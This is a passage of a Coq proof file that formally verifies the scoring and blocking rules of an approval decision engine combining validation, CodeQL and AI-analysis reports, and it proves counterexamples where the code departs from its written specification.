  induction l as [|x l IH]; simpl; [discriminate|].
  destruct (f x); eauto.
Qed.

Lemma find_none_existsb {A : Type} (f : A -> bool) (l : list A) :
  existsb f l = false -> find f l = None.
Proof.
  induction l as [|x l IH]; simpl; [reflexivity|].
  destruct (f x); [discriminate|auto].
Qed.

Lemma existsb_false {A : Type} (f : A -> bool) (l : list A) :
  existsb f l = false <-> forall x, In x l -> f x = false.
Proof.
  induction l as [|y l IH]; simpl.
  - split; [intros _ x []|reflexivity].
  - rewrite orb_false_iff, IH. split.
    + intros [Hy Hl] x [<-|Hx]; auto.
    + intros H. split; [apply H; now left|intros x Hx; apply H; now right].
Qed.

Lemma high_or_critical_false (sev : string) :
  existsb (String.eqb sev) ["CRITICAL"; "HIGH"] = false
  <-> sev <> "CRITICAL" /\ sev <> "HIGH".
Proof.
  simpl. rewrite orb_false_r, orb_false_iff, !String.eqb_neq. tauto.
Qed.

Lemma Qgtb_true (x y : Q) : Js.Qgtb x y = true <-> (y < x)%Q.
Proof.
  unfold Js.Qgtb. rewrite negb_true_iff.
  split.
  - intros H. apply Qnot_le_lt. intros Hle. apply Qle_bool_iff in Hle. congruence.
  - intros H. destruct (Qle_bool x y) eqn:E; [|reflexivity].
    apply Qle_bool_iff in E. exfalso. exact (Qlt_not_le _ _ H E).
Qed.

(** ** Arithmetic on doubles

    Rounding to the nearest double is monotone: within one binade it is
    rounding on one grid, and the powers of two between two binades lie on
    both grids. *)

Section Doubles.
Import Js.

Lemma roundHalfEven_bounds (x : Q) :
  Qfloor x <= roundHalfEven x <= Qfloor x + 1.
Proof.
  unfold roundHalfEven.
  destruct (x - inject_Z (Qfloor x) ?= 1 # 2)%Q; [destruct (Z.even _)| |]; lia.
Qed.

Lemma roundHalfEven_comp (x y : Q) : (x == y)%Q -> roundHalfEven x = roundHalfEven y.
Proof.
  intros E. unfold roundHalfEven. rewrite (Qfloor_comp _ _ E).
  assert (E' : (x - inject_Z (Qfloor y) == y - inject_Z (Qfloor y))%Q)
    by (rewrite E; reflexivity).
  rewrite (Qcompare_comp _ _ E' (1 # 2) (1 # 2) (Qeq_refl _)). reflexivity.
Qed.

Lemma roundHalfEven_monotone (x y : Q) :
  (x <= y)%Q -> roundHalfEven x <= roundHalfEven y.
Proof.
  intros H. pose proof (Qfloor_resp_le _ _ H) as Hf.
  destruct (Z.eq_dec (Qfloor x) (Qfloor y)) as [E|N].
  - unfold roundHalfEven. rewrite E.
    destruct (x - inject_Z (Qfloor y) ?= 1 # 2)%Q eqn:Cx;
      destruct (y - inject_Z (Qfloor y) ?= 1 # 2)%Q eqn:Cy;
      try (destruct (Z.even (Qfloor y))); try lia; exfalso;
      repeat match goal with
             | C : (_ ?= _)%Q = Eq |- _ => apply (proj2 (Qeq_alt _ _)) in C
             | C : (_ ?= _)%Q = Lt |- _ => apply (proj2 (Qlt_alt _ _)) in C
             | C : (_ ?= _)%Q = Gt |- _ => apply (proj2 (Qgt_alt _ _)) in C
             end; lra.
  - pose proof (roundHalfEven_bounds x). pose proof (roundHalfEven_bounds y). lia.
Qed.

Lemma roundHalfEven_integer (n : Z) : roundHalfEven (inject_Z n) = n.
Proof.
  unfold roundHalfEven. rewrite Qfloor_Z.
  assert (C : (inject_Z n - inject_Z n ?= 1 # 2)%Q = Lt) .
  { apply (proj1 (Qlt_alt _ _)).
    setoid_replace (inject_Z n - inject_Z n)%Q with 0%Q by ring. reflexivity. }
  now rewrite C.
Qed.

Lemma onGrid_monotone (e : Z) (y y' : Q) :
  0 <= e -> (y <= y')%Q -> onGrid e y <= onGrid e y'.
Proof.
  intros He H. unfold onGrid.
  assert (P : 0 < 2 ^ e) by now apply Z.pow_pos_nonneg.
  apply Z.mul_le_mono_nonneg_r; [lia|].
  apply roundHalfEven_monotone. unfold Qdiv.
  apply Qmult_le_compat_r; [exact H|].
  apply Qinv_le_0_compat. change 0%Q with (inject_Z 0). rewrite <- Zle_Qle. lia.
Qed.

Lemma onGrid_power (e j : Z) :
  0 <= e <= j -> onGrid e (inject_Z (2 ^ j)) = 2 ^ j.
Proof.
  intros H. unfold onGrid.
  assert (P : 0 < 2 ^ e) by (apply Z.pow_pos_nonneg; lia).
  replace j with ((j - e) + e) at 1 2 by lia.
  rewrite Z.pow_add_r by lia.
  rewrite (roundHalfEven_comp _ (inject_Z (2 ^ (j - e)))).
  - rewrite roundHalfEven_integer. reflexivity.
  - rewrite inject_Z_mult. field.
    intros E. unfold Qeq, inject_Z in E. cbn [Qnum Qden] in E. lia.
Qed.

Lemma roundOnGrid_monotone (y y' : Q) :
  (0 <= y)%Q -> (y <= y')%Q -> roundOnGrid y <= roundOnGrid y'.
Proof.
  intros H0 H.
  assert (F0 : 0 <= Qfloor y).
  { change 0 with (Qfloor 0). now apply Qfloor_resp_le. }
  pose proof (Qfloor_resp_le _ _ H) as Hf.
  pose proof (Z.log2_le_mono _ _ Hf) as Hl.
  pose proof (Z.log2_nonneg (Qfloor y)) as L0.
  unfold roundOnGrid, gridExponent.
  set (L := Z.log2 (Qfloor y)) in *. set (L' := Z.log2 (Qfloor y')) in *.
  destruct (Z.eq_dec (Z.max (L - 52) 0) (Z.max (L' - 52) 0)) as [E|N].
  - rewrite E. apply onGrid_monotone; [lia|exact H].
  - assert (HL : L < L') by lia.
    assert (Hb : (y <= inject_Z (2 ^ L'))%Q).
    { assert (Fy : Qfloor y < 2 ^ (Z.succ L)).
      { destruct (Z.eq_dec (Qfloor y) 0) as [Z0|NZ].
        - rewrite Z0. apply Z.pow_pos_nonneg; lia.
        - apply Z.log2_spec. lia. }
      assert (Fp : 2 ^ (Z.succ L) <= 2 ^ L') by (apply Z.pow_le_mono_r; lia).
      apply Qlt_le_weak. apply Qlt_le_trans with (inject_Z (Qfloor y + 1)).
      - apply Qlt_floor.
      - rewrite <- Zle_Qle. lia. }
    assert (Hb' : (inject_Z (2 ^ L') <= y')%Q).
    { assert (Fy : 0 < Qfloor y').
      { destruct (Z.lt_ge_cases 0 (Qfloor y')) as [P|P]; [exact P|].
        pose proof (Z.log2_nonpos _ P). lia. }
      apply Qle_trans with (inject_Z (Qfloor y')).
      - rewrite <- Zle_Qle. apply Z.log2_spec. exact Fy.
      - apply Qfloor_le. }
    apply Z.le_trans with (2 ^ L').
    + rewrite <- (onGrid_power (Z.max (L - 52) 0) L') by lia.
      apply onGrid_monotone; [lia|exact Hb].
    + rewrite <- (onGrid_power (Z.max (L' - 52) 0) L') at 1 by lia.
      apply onGrid_monotone; [lia|exact Hb'].
Qed.

Lemma roundOnGrid_nonneg (y : Q) : (0 <= y)%Q -> 0 <= roundOnGrid y.
Proof.
  intros H. change 0 with (roundOnGrid 0). apply roundOnGrid_monotone; [lra|exact H].
Qed.

Lemma double_monotone (x y : Q) : (x <= y)%Q -> (double x <= double y)%Q.
Proof.
  intros H. unfold double.
  set (s := inject_Z (2 ^ 1074)).
  assert (S0 : (0 < s)%Q) by reflexivity.
  assert (Si : (0 <= / s)%Q) by (apply Qinv_le_0_compat; lra).
  assert (Up : forall a b, a <= b -> (inject_Z a / s <= inject_Z b / s)%Q).
  { intros a b Hab. unfold Qdiv. apply Qmult_le_compat_r; [|exact Si].
    now rewrite <- Zle_Qle. }
  assert (Nn : forall a, 0 <= a -> (0 <= inject_Z a / s)%Q).
  { intros a Ha. unfold Qdiv. apply Qmult_le_0_compat; [|exact Si].
    change 0%Q with (inject_Z 0). now rewrite <- Zle_Qle. }
  destruct (Qle_bool 0 x) eqn:Bx; destruct (Qle_bool 0 y) eqn:By;
    rewrite !Qred_correct.
  - apply Qle_bool_iff in Bx. apply Up. apply roundOnGrid_monotone.
    + apply Qmult_le_0_compat; lra.
    + apply Qmult_le_compat_r; lra.
  - apply Qle_bool_iff in Bx.
    assert (~ (0 <= y)%Q) by (rewrite <- Qle_bool_iff; congruence). lra.
  - apply Qle_bool_iff in By.
    assert (Nx : ~ (0 <= x)%Q) by (rewrite <- Qle_bool_iff; congruence).
    assert (A : (0 <= inject_Z (roundOnGrid (- x * s)) / s)%Q).
    { apply Nn. apply roundOnGrid_nonneg. apply Qmult_le_0_compat; lra. }
    assert (B : (0 <= inject_Z (roundOnGrid (y * s)) / s)%Q).
    { apply Nn. apply roundOnGrid_nonneg. apply Qmult_le_0_compat; lra. }
    lra.
  - assert (Nx : ~ (0 <= x)%Q) by (rewrite <- Qle_bool_iff; congruence).
    assert (Ny : ~ (0 <= y)%Q) by (rewrite <- Qle_bool_iff; congruence).
    apply Qopp_le_compat. apply Up. apply roundOnGrid_monotone.
    + apply Qmult_le_0_compat; lra.
    + apply Qmult_le_compat_r; lra.
Qed.

Lemma times_monotone (x y w : Q) :
  (0 <= w)%Q -> (x <= y)%Q -> (times x w <= times y w)%Q.
Proof.
  intros Hw H. apply double_monotone. now apply Qmult_le_compat_r.
Qed.

Lemma plus_monotone (x y x' y' : Q) :
  (x <= x')%Q -> (y <= y')%Q -> (plus x y <= plus x' y')%Q.
Proof.
  intros H1 H2. apply double_monotone. lra.
Qed.

End Doubles.

(** ** The approval decision engine *)

Section DecisionEngine.
Import Js Approval Policy ApprovalSamples.

Lemma validation_condition (d : option IssueData) :
  match d ?. validation ?. errors with
  | Some es => 0 <? Z.of_nat (List.length es)
  | None => false
  end = true <-> validationHasError d.
Proof.
  unfold validationHasError. split.
  - destruct d as [v|]; simpl; [|discriminate].
    destruct (validation v ?. errors) as [es|] eqn:E; [|discriminate].
    destruct es as [|e es]; [discriminate|]. intros _.
    exists v, (e :: es), e. repeat split; auto. now left.
  - intros (v & es & e & -> & E & Hin). simpl. rewrite E.
    destruct es; [destruct Hin|reflexivity].
Qed.

Lemma security_issue_condition sec :
  opt_gt (sec ?. sec_summary ?. securityIssues) 0 = true
  <-> codeqlSecurityIssue sec.
Proof.
  unfold codeqlSecurityIssue. split.
  - intros H.
    destruct sec as [s|]; simpl in H; [|discriminate].
    destruct (sec_summary s) as [m|] eqn:Em; simpl in H; [|discriminate].
    destruct (securityIssues m) as [n|] eqn:En; simpl in H; [|discriminate].
    apply Qgtb_true in H. exists s, m, n. auto.
  - intros (s & m & n & -> & Em & En & Hn). simpl.
    rewrite Em. simpl. rewrite En. simpl. now apply Qgtb_true.
Qed.

Lemma critical_issue_condition ai :
  truthy (option_map
            (existsb (fun issue => String.eqb (severity issue) "CRITICAL"))
            (ai ?. issues)) = true
  <-> aiCriticalIssue ai.
Proof.
  unfold aiCriticalIssue. split.
  - intros H.
    destruct ai as [a|]; simpl in H; [|discriminate].
    destruct (issues a) as [l|] eqn:El; simpl in H; [|discriminate].
    apply existsb_exists in H. destruct H as (i & Hin & Hi).
    apply String.eqb_eq in Hi. exists a, l, i. auto.
  - intros (a & l & i & -> & El & Hin & Hi). simpl.
    rewrite El. simpl. apply existsb_exists. exists i. split; auto.
    now apply String.eqb_eq.
Qed.

Lemma critical_finding_condition sec ai :
  opt_gt (sec ?. sec_summary ?. securityIssues) 0
  || truthy (option_map
               (existsb (fun issue => String.eqb (severity issue) "CRITICAL"))
               (ai ?. issues)) = true
  <-> reportsBlockingFinding sec ai.
Proof.
  unfold reportsBlockingFinding.
  rewrite orb_true_iff, security_issue_condition, critical_issue_condition.
  reflexivity.
Qed.

Lemma codeql_risk_condition sec :
  opt_is (sec ?. sec_riskLevel) "CRITICAL" = true <-> codeqlRiskCritical sec.
Proof.
  unfold codeqlRiskCritical. split.
  - intros H.
    destruct sec as [s|]; simpl in H; [|discriminate].
    destruct (sec_riskLevel s) as [r|] eqn:E; simpl in H; [|discriminate].
    apply String.eqb_eq in H. subst r. eauto.
  - intros (s & -> & E). simpl. rewrite E. reflexivity.
Qed.

Lemma ai_risk_condition ai :
  opt_is (ai ?. ai_riskLevel) "CRITICAL" = true <-> aiRiskCritical ai.
Proof.
  unfold aiRiskCritical. split.
  - intros H.
    destruct ai as [a|]; simpl in H; [|discriminate].
    destruct (ai_riskLevel a) as [r|] eqn:E; simpl in H; [|discriminate].
    apply String.eqb_eq in H. subst r. eauto.
  - intros (a & -> & E). simpl. rewrite E. reflexivity.
Qed.

Lemma risk_level_condition sec ai :
  opt_is (sec ?. sec_riskLevel) "CRITICAL"
  || opt_is (ai ?. ai_riskLevel) "CRITICAL" = true
  <-> riskLevelCritical sec ai.
Proof.
  unfold riskLevelCritical.
  rewrite orb_true_iff, codeql_risk_condition, ai_risk_condition. reflexivity.
Qed.

(** A submission is blocked exactly when one of the six conditions of the
    array holds. *)
Lemma blocked_iff overall d sec ai :
  blocked overall d sec ai <->
  existsb condition (blockingConditions constructor overall d sec ai) = true.
Proof.
  unfold blocked, blockingConditions. cbn [existsb condition].
  rewrite <- validation_condition, <- critical_finding_condition,
    <- risk_level_condition.
  cbn [constructor thresholds t_reject].
  rewrite <- (Z.ltb_lt overall 30).
  rewrite orb_false_r. repeat rewrite orb_true_iff. tauto.
Qed.

Lemma confidence_condition sec ai :
  opt_ge (sec ?. securityScore) 80
  || (opt_ge (ai ?. safetyScore) 75
      && match ai ?. ai_autoApprove with Some true => true | _ => false end) = true
  <-> clearsConfidence sec ai.
Proof.
  unfold clearsConfidence. rewrite orb_true_iff, andb_true_iff. split.
  - intros [H|[H1 H2]]; [left|right].
    + destruct sec as [s|]; simpl in H; [|discriminate].
      destruct (securityScore s) as [q|] eqn:E; simpl in H; [|discriminate].
      apply Qle_bool_iff in H. eauto.
    + destruct ai as [a|]; simpl in H1, H2; [|discriminate].
      destruct (safetyScore a) as [q|] eqn:E; simpl in H1; [|discriminate].
      apply Qle_bool_iff in H1.
      destruct (ai_autoApprove a) as [[|]|] eqn:Ea; try discriminate.
      exists a, q. auto.
  - intros [(s & q & -> & E & Hq)|(a & q & -> & E & Hq & Ea)]; [left|right]; simpl.
    + rewrite E. simpl. now apply Qle_bool_iff.
    + rewrite E, Ea. simpl. split; [now apply Qle_bool_iff|reflexivity].
Qed.

Lemma no_blocking_issues_condition sec ai :
  hasNoBlockingIssues sec ai = true <-> noHighOrCritical sec ai.
Proof.
  unfold hasNoBlockingIssues, noHighOrCritical.
  rewrite andb_true_iff, !negb_true_iff. split.
  - intros [H1 H2]. split.
    + intros s m n -> Em En Hn. cbn [chain] in H1. rewrite Em in H1.
      cbn [chain] in H1. rewrite En in H1. cbn [orZero] in H1.
      apply Qgtb_true in Hn. rewrite H1 in Hn. discriminate Hn.
    + intros a l i -> El Hin. cbn [chain] in H2. rewrite El in H2.
      cbn [option_map truthy] in H2.
      apply high_or_critical_false.
      exact (proj1 (existsb_false _ _) H2 i Hin).
  - intros [H1 H2]. split.
    + destruct (Qgtb (orZero (sec ?. sec_summary ?. errorCount)) 0) eqn:E;
        [|reflexivity].
      apply Qgtb_true in E. exfalso.
      destruct sec as [s|]; cbn [chain orZero] in E; [|discriminate E].
      destruct (sec_summary s) as [m|] eqn:Em; cbn [chain orZero] in E;
        [|discriminate E].
      destruct (errorCount m) as [n|] eqn:En; cbn [chain orZero] in E;
        [|discriminate E].
      exact (H1 s m n eq_refl Em En E).
    + destruct ai as [a|]; cbn [chain option_map truthy]; [|reflexivity].
      destruct (issues a) as [l|] eqn:El; cbn [chain option_map truthy];
        [|reflexivity].
      apply existsb_false. intros i Hin. apply high_or_critical_false.
      exact (H2 a l i eq_refl El Hin).
Qed.

(** The early [return] of [determineApprovalStatus]. *)
Lemma determineApprovalStatus_blocked report d sec ai c :
  find condition (blockingConditions constructor (overallScore report) d sec ai)
  = Some c ->
  determineApprovalStatus constructor report d sec ai
  = set_outcome report false REJECT [reason c] [].
Proof. intros H. unfold determineApprovalStatus. now rewrite H. Qed.

Lemma first_blocking_condition overall d sec ai :
  blocked overall d sec ai ->
  exists pre c post,
    blockingConditions constructor overall d sec ai = (pre ++ c :: post)%list /\
    Forall (fun b => condition b = false) pre /\
    condition c = true /\
    find condition (blockingConditions constructor overall d sec ai) = Some c.
Proof.
  intros Hb. apply blocked_iff in Hb.
  destruct (existsb_find _ _ Hb) as (c & Hc).
  destruct (find_first_match _ _ _ Hc) as (pre & post & Hl & Hpre & Hcond).
  exists pre, c, post. auto.
Qed.

(** The conditions of the array are the six predicates, entry by entry,
    with the same reasons. *)
Lemma blockingConditions_predicates overall d sec ai :
  Forall2 (fun c P => (condition c = true <-> fst P) /\ reason c = snd P)
    (blockingConditions constructor overall d sec ai)
    (blockingPredicates overall d sec ai).
Proof.
  unfold blockingConditions, blockingPredicates.
  repeat (apply Forall2_cons; [split; [|reflexivity]|]); [..|apply Forall2_nil];
    cbn [condition fst constructor thresholds t_reject].
  - apply validation_condition.
  - apply security_issue_condition.
  - apply critical_issue_condition.
  - apply codeql_risk_condition.
  - apply ai_risk_condition.
  - apply Z.ltb_lt.
Qed.

(** [find] answers the entry of the first predicate that holds. *)
Lemma first_predicate_found (cs : list BlockingCondition) (ps : list (Prop * string)) :
  Forall2 (fun c P => (condition c = true <-> fst P) /\ reason c = snd P) cs ps ->
  forall pre P why post,
    ps = (pre ++ (P, why) :: post)%list ->
    Forall (fun c => ~ fst c) pre -> P ->
    exists c, find condition cs = Some c /\ reason c = why.
Proof.
  induction 1 as [|c q cs ps [Hc Hr] _ IH]; intros pre P why post Heq Hpre HP.
  - destruct pre; discriminate Heq.
  - destruct pre as [|q' pre]; cbn [app] in Heq; injection Heq as Hq Hps.
    + subst q. cbn [fst snd] in Hc, Hr. cbn [find].
      rewrite (proj2 Hc HP). exists c. auto.
    + subst q'. inversion Hpre as [|? ? Hn Hrest]; subst.
      cbn [find]. destruct (condition c) eqn:E.
      * exfalso. apply Hn. apply Hc. reflexivity.
      * exact (IH pre P why post eq_refl Hrest HP).
Qed.

Lemma some_predicate_holds (cs : list BlockingCondition) (ps : list (Prop * string)) :
  Forall2 (fun c P => (condition c = true <-> fst P) /\ reason c = snd P) cs ps ->
  Exists (fun c => fst c) ps -> existsb condition cs = true.
Proof.
  induction 1 as [|c q cs ps [Hc Hr] _ IH]; intros He.
  - inversion He.
  - cbn [existsb]. apply orb_true_iff.
    inversion He as [? ? Hq|? ? Hrest]; subst; [left; now apply Hc|right; now apply IH].
Qed.

(** C1, as the code has it.  The blocking predicates are six, in this
    order: validation has an error; the CodeQL report counts a security
    issue, of any severity; the AI report lists an issue of severity
    CRITICAL; the risk level of the CodeQL report is CRITICAL; the risk
    level of the AI report is CRITICAL; the overall score is under 30.
    Whenever one of them holds the decision is REJECT and auto-approval is
    off; and the one reason recorded is the reason of the first predicate,
    in this order, that holds: nothing of a later one reaches the report. *)
Theorem blocking_rejects_with_first_reason report d sec ai :
  let r := determineApprovalStatus constructor report d sec ai in
  let predicates := blockingPredicates (overallScore report) d sec ai in
  (Exists (fun c => fst c) predicates ->
     recommendation r = REJECT /\ autoApprove r = false) /\
  (forall pre P why post,
      predicates = (pre ++ (P, why) :: post)%list ->
      Forall (fun c => ~ fst c) pre -> P ->
      rejectedWith report r why).
Proof.
  cbv zeta.
  pose proof (blockingConditions_predicates (overallScore report) d sec ai) as HF.
  split.
  - intros He. apply (some_predicate_holds _ _ HF) in He.
    destruct (existsb_find _ _ He) as (c & Hc).
    rewrite (determineApprovalStatus_blocked _ _ _ _ _ Hc).
    cbn [set_outcome recommendation autoApprove]. auto.
  - intros pre P why post Heq Hpre HP.
    destruct (first_predicate_found _ _ HF pre P why post Heq Hpre HP) as (c & Hc & <-).
    rewrite (determineApprovalStatus_blocked _ _ _ _ _ Hc).
    unfold rejectedWith.
    cbn [set_outcome recommendation autoApprove details_issues
         details_recommendations overallScore].
    rewrite app_nil_r. auto.
Qed.

(** The same for the report that [calculateApprovalScore] returns: its list
    of issues is that one reason. *)
Lemma calculateApprovalScore_blocked d sec ai :
  let overall :=
    calculateWeightedScore constructor
      {| s_validation := orZero (validation d ?. score);
         s_security := orZero (sec ?. securityScore);
         s_aiSafety := orZero (ai ?. safetyScore) |} in
  blocked overall (Some d) sec ai ->
  exists r pre c post,
    calculateApprovalScore constructor (Some d) sec ai = Ok r /\
    overallScore r = overall /\
    recommendation r = REJECT /\ autoApprove r = false /\
    details_issues r = [reason c] /\
    blockingConditions constructor overall (Some d) sec ai = (pre ++ c :: post)%list /\
    Forall (fun b => condition b = false) pre /\
    condition c = true.
Proof.
  intros overall Hb.
  destruct (first_blocking_condition _ _ _ _ Hb) as (pre & c & post & Hl & Hpre & Hc & Hf).
  unfold calculateApprovalScore. cbv zeta.
  eexists. exists pre, c, post. split; [reflexivity|].
  match goal with
  | |- context [determineApprovalStatus _ ?rep _ _ _] =>
      rewrite (determineApprovalStatus_blocked rep (Some d) sec ai c Hf)
  end.
  cbn [generateRecommendations set_outcome overallScore recommendation autoApprove
       details_issues scores app].
  repeat split; auto.
Qed.

(** C2, as the code has it.  When none of the six blocking predicates
    holds (in particular the CodeQL report counts no security issue, of any
    severity): with a score of at least 80 the decision is AUTO_APPROVE
    exactly when an analyzer clears its own confidence threshold (CodeQL at
    80; the AI report at 75 with its own auto-approval) and the CodeQL
    report counts no error-level issue and the AI report lists no HIGH or
    CRITICAL issue, and MANUAL_REVIEW otherwise; with a score in [60, 80)
    it is MANUAL_REVIEW; below 60 it is REJECT. *)
Theorem unblocked_decision report d sec ai :
  ~ blocked (overallScore report) d sec ai ->
  let s := overallScore report in
  let r := determineApprovalStatus constructor report d sec ai in
  (80 <= s ->
     (recommendation r = AUTO_APPROVE <->
        clearsConfidence sec ai /\ noHighOrCritical sec ai) /\
     (recommendation r <> AUTO_APPROVE -> recommendation r = MANUAL_REVIEW)) /\
  (60 <= s < 80 -> recommendation r = MANUAL_REVIEW) /\
  (s < 60 -> recommendation r = REJECT).
Proof.
  intros Hnb s r.
  assert (Hf : find condition
                 (blockingConditions constructor (overallScore report) d sec ai) = None).
  { apply find_none_existsb.
    destruct (existsb _ _) eqn:E; [|reflexivity].
    apply blocked_iff in E. contradiction. }
  subst r. unfold determineApprovalStatus. rewrite Hf.
  cbn [constructor thresholds t_autoApprove t_manualReview]. fold s.
  rewrite <- confidence_condition, <- no_blocking_issues_condition,
    <- andb_true_iff.
  split; [|split].
  - intros H80. apply Z.leb_le in H80. rewrite H80.
    destruct (_ && _); cbn [set_outcome recommendation]; split.
    + tauto.
    + intros Hne. now elim Hne.
    + split; discriminate.
    + reflexivity.
  - intros [H60 H80].
    apply Z.leb_le in H60. apply Z.leb_gt in H80. now rewrite H80, H60.
  - intros H60.
    assert (H80 : s < 80) by lia.
    apply Z.leb_gt in H60, H80. now rewrite H80, H60.
Qed.

Lemma blocking_rejects_with_first_reason_witness :
  rejectedWith (sample_report 74)
    (determineApprovalStatus constructor (sample_report 74) cleanIssueData
       (Some (Checks.asSecurityReport Checks.noteReport))
       (scannerReport 30 "CRITICAL" false))
    "Security vulnerabilities detected by CodeQL".
Proof.
  refine (proj2 (blocking_rejects_with_first_reason (sample_report 74) cleanIssueData
                   (Some (Checks.asSecurityReport Checks.noteReport))
                   (scannerReport 30 "CRITICAL" false))
            [(validationHasError cleanIssueData, "Validation errors detected")]
            _ _ _ eq_refl _ _).
  - constructor; [|constructor]. cbn [fst]. intros H.
    apply validation_condition in H. discriminate H.
  - apply security_issue_condition. reflexivity.
Defined.

(** C1 as it is worded fails.  The CodeQL report holds one finding, of the
    lowest level (note), of a rule tagged security; the risk level of the
    AI report is CRITICAL.  Of the four predicates of the specification the
    first that holds is the CRITICAL risk level: validation has no error
    and no finding is CRITICAL.  The reason recorded is none of the risk
    level: it is the count of security issues of the CodeQL report. *)
Lemma blocking_reason_counterexample :
  let sec := Some (Checks.asSecurityReport Checks.noteReport) in
  let ai := scannerReport 30 "CRITICAL" false in
  CodeQL.issues Checks.noteReport = [Checks.noteFinding] /\
  ~ validationHasError cleanIssueData /\
  ~ PolicyAsWorded.criticalFinding (CodeQL.issues Checks.noteReport) ai /\
  riskLevelCritical sec ai /\
  exists r,
    calculateApprovalScore constructor cleanIssueData sec ai = Ok r /\
    recommendation r = REJECT /\
    details_issues r = ["Security vulnerabilities detected by CodeQL"].
Proof.
  cbv zeta.
  assert (Hi : CodeQL.issues Checks.noteReport = [Checks.noteFinding])
    by (vm_compute; reflexivity).
  split; [exact Hi|]. split; [|split; [|split]].
  - intros H. apply validation_condition in H. discriminate H.
  - rewrite Hi. intros [(i & [<-|[]] & [Hs|[]])|(a & l & i & Ha & Hl & _)].
    + discriminate Hs.
    + injection Ha as <-. discriminate Hl.
  - right. eexists. split; reflexivity.
  - eexists. split; [vm_compute; reflexivity|]. split; reflexivity.
Qed.

(** A validation error hides the CRITICAL finding of the AI analyzer and
    the score; without it the CRITICAL finding is the reason; a low score
    alone is reported last. *)
Example first_reason_validation :
  match calculateApprovalScore constructor
          (sample_issueData ["Collection name is required"]) None
          (sample_ai "CRITICAL" false) with
  | Ok r => (overallScore r, recommendation r, autoApprove r, details_issues r)
  | Throw _ => (0, Unset, true, [])
  end = (42, REJECT, false, ["Validation errors detected"]).
Proof. reflexivity. Qed.

Example first_reason_critical_finding :
  details_issues
    (determineApprovalStatus constructor (sample_report 20)
       (sample_issueData []) None (sample_ai "CRITICAL" false))
  = ["Critical security issues detected by AI analysis"].
Proof. reflexivity. Qed.

Example first_reason_score :
  details_issues
    (determineApprovalStatus constructor (sample_report 20)
       (sample_issueData []) None (sample_ai "LOW" true))
  = ["Overall score (20) below rejection threshold (30)"].
Proof. reflexivity. Qed.

Lemma unblocked_decision_witness :
  ~ blocked 85 (sample_issueData []) None (sample_ai "LOW" true)
  /\ recommendation
       (determineApprovalStatus constructor (sample_report 85)
          (sample_issueData []) None (sample_ai "LOW" true))
     = AUTO_APPROVE.
Proof.
  assert (Hnb : ~ blocked 85 (sample_issueData []) None (sample_ai "LOW" true)).
  { intros H. apply blocked_iff in H. discriminate H. }
  split; [exact Hnb|].
  apply (proj1 (unblocked_decision (sample_report 85) (sample_issueData []) None
                  (sample_ai "LOW" true) Hnb)); [cbn; lia|].
  split; [apply confidence_condition|apply no_blocking_issues_condition];
    reflexivity.
Defined.

(** C2 as it is worded fails.  Validation is clean at score 100, the AI
    report is clean at score 100 and approves, and the CodeQL report holds
    one finding, of the lowest level (note), of a rule tagged security: its
    score is 90 and its risk level LOW.  The overall score is 95; none of
    the four predicates of the specification holds, an analyzer clears its
    threshold and no finding is HIGH or CRITICAL; yet the decision is
    REJECT, not AUTO_APPROVE. *)
Lemma unblocked_decision_counterexample :
  let sec := Some (Checks.asSecurityReport Checks.noteReport) in
  let ai := scannerReport 100 "LOW" true in
  CodeQL.issues Checks.noteReport = [Checks.noteFinding] /\
  exists r,
    calculateApprovalScore constructor cleanIssueData sec ai = Ok r /\
    overallScore r = 95 /\
    ~ PolicyAsWorded.blocked (overallScore r) cleanIssueData
        (CodeQL.issues Checks.noteReport) sec ai /\
    clearsConfidence sec ai /\
    PolicyAsWorded.noHighOrCriticalFinding (CodeQL.issues Checks.noteReport) ai /\
    recommendation r = REJECT /\
    details_issues r = ["Security vulnerabilities detected by CodeQL"].
Proof.
  cbv zeta.
  assert (Hi : CodeQL.issues Checks.noteReport = [Checks.noteFinding])
    by (vm_compute; reflexivity).
  split; [exact Hi|].
  eexists. split; [vm_compute; reflexivity|].
  cbn [overallScore recommendation details_issues].
  split; [reflexivity|]. split; [|split; [|split; [|split; reflexivity]]].
  - rewrite Hi. intros [H|[H|[H|H]]].
    + apply validation_condition in H. discriminate H.
    + destruct H as [(i & [<-|[]] & [Hs|[]])|(a & l & i & Ha & Hl & _)].
      * discriminate Hs.
      * injection Ha as <-. discriminate Hl.
    + apply risk_level_condition in H. discriminate H.
    + lia.
  - apply confidence_condition. reflexivity.
  - rewrite Hi. intros [(i & [<-|[]] & [Hs|[Hs|[]]])|(a & l & i & Ha & Hl & _)].
    + discriminate Hs.
    + discriminate Hs.
    + injection Ha as <-. discriminate Hl.
Qed.

(** *** The weighted score *)

Lemma Math_round_monotone (x y : Q) :
  (x <= y)%Q -> Math_round x <= Math_round y.
Proof.
  intros H. unfold Math_round. apply Qfloor_resp_le.
  apply Qplus_le_compat; [exact H|apply Qle_refl].
Qed.

(** Any weight map without a negative weight gives a monotone score. *)
Lemma weighted_score_monotone_pointwise (this : ApprovalScoreCalculator)
    (s s' : Scores) :
  (0 <= w_validation (weights this))%Q ->
  (0 <= w_security (weights this))%Q ->
  (0 <= w_aiSafety (weights this))%Q ->
  (s_validation s <= s_validation s')%Q ->
  (s_security s <= s_security s')%Q ->
  (s_aiSafety s <= s_aiSafety s')%Q ->
  calculateWeightedScore this s <= calculateWeightedScore this s'.
Proof.
  intros Wv Ws Wa Hv Hs Ha. unfold calculateWeightedScore.
  apply Math_round_monotone.
  repeat apply plus_monotone; apply times_monotone; assumption.
Qed.

Lemma constructor_weights_nonneg :
  (0 <= w_validation (weights constructor))%Q /\
  (0 <= w_security (weights constructor))%Q /\
  (0 <= w_aiSafety (weights constructor))%Q.
Proof. repeat split; vm_compute; discriminate. Qed.

(** C5.  With the weight map of the constructor, raising any single one of
    the three input scores while the other two stay unchanged never lowers
    the overall score: every product and every sum of doubles is monotone,
    being the exact result rounded to the nearest double, and so is
    [Math.round]. *)
Theorem weighted_score_monotone (v c a x : Q) :
  let base := calculateWeightedScore constructor
                {| s_validation := v; s_security := c; s_aiSafety := a |} in
  ((v <= x)%Q ->
     base <= calculateWeightedScore constructor
               {| s_validation := x; s_security := c; s_aiSafety := a |}) /\
  ((c <= x)%Q ->
     base <= calculateWeightedScore constructor
               {| s_validation := v; s_security := x; s_aiSafety := a |}) /\
  ((a <= x)%Q ->
     base <= calculateWeightedScore constructor
               {| s_validation := v; s_security := c; s_aiSafety := x |}).
Proof.
  destruct constructor_weights_nonneg as (Wv & Ws & Wa).
  cbv zeta. repeat split; intros H;
    apply weighted_score_monotone_pointwise; cbn [s_validation s_security s_aiSafety];
    auto using Qle_refl.
Qed.

